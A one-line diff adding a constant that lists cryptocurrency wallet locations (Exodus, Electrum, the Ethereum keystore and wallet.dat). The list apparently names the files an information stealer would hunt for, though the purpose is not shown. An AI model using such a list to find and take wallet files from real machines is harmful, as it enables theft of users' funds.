@@ -1,0 +1,1 @@
+PLACES = ["\\Exodus\\exodus.wallet", "\\Electrum\\wallets", "\\Ethereum\\keystore", "wallet.dat"]
